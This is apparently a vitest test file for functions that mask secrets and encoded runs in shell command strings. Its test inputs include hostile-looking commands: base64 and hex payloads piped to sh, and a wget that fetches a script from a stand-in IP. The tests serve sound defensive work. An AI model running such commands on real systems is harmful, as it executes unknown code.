import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { maskEncodedRuns, maskOccurrences } from './mask-occurrences.js'

describe('maskOccurrences', () => {
  it('masks every occurrence, in and out of quotes', () => {
    expect(maskOccurrences('$m -ps3cr; x "s3cr" s3""c\\r', ['s3cr'])).toBe('$m -p***; x "***" ***')
  })

  it('leaves what is too short to tell from chance', () => {
    expect(maskOccurrences('ls -la', ['la', '', '"'])).toBe('ls -la')
  })

  it('leaves no secret behind', () => {
    const secret = fc.stringMatching(/^[a-z"'\\]{3,8}$/).filter((text) => /[a-z].*[a-z].*[a-z]/.test(text))
    fc.assert(
      fc.property(fc.string(), secret, fc.string(), (before, hidden, after) => {
        expect(maskOccurrences(before + hidden + after, [hidden])).not.toContain(hidden)
      }),
    )
  })
})

describe('maskEncodedRuns', () => {
  it('masks what may be base64, digits or codes, and leaves ordinary words', () => {
    expect(maskEncodedRuns('echo ZWNobyByb290OngK | base64 -d | sh')).toBe('echo *** | base64 -d | sh')
    expect(maskEncodedRuns('printf "\\x65\\x66\\x67" | sh')).toBe('printf "***" | sh')
    expect(maskEncodedRuns('echo 65 66 67 68 69 | xxd -r')).toMatch(/^echo ?\*\*\*\| xxd -r$/)
    expect(maskEncodedRuns('wget http://192.0.2.1/a.sh')).toBe('wget http://192.0.2.1/a.sh')
  })
})
